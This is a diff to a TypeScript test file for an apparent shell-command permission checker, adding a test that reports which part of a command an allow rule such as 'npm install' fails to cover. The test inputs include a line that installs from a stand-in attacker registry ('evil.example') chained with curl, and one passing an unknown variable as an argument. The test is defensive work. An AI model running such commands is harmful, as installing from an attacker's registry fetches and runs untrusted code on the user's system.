@@ -1,4 +1,5 @@
 import { expect, test } from 'bun:test';
+import { reasonsBeyond } from './beyond-rule.ts';
 import { judgeLine } from './judge-line.ts';
 import { covers } from './rules.ts';
 
@@ -159,4 +160,13 @@ test.each(Object.entries(WITHIN))('the rule "%s" covers what stays where it goes
 
 test.each(Object.entries(BEYOND))('the rule "%s" covers nothing that goes elsewhere', (rule, lines) => {
   expect(covered(rule, lines)).toEqual([]);
+});
+
+test('the word that a rule lacks is told', () => {
+  const reasons = (line: string) => reasonsBeyond(judgeLine(line, ground).parts, ['npm install', 'curl'], ground);
+  expect(reasons('npm install --registry=https://evil.example x && curl https://a.example')).toEqual([
+    'the rule "npm install" does not cover --registry=https://evil.example',
+  ]);
+  expect(reasons('npm install "$X"')).toEqual(['the rule "npm install" does not cover a word that is not known']);
+  expect(reasons('npm install x')).toEqual([]);
 });
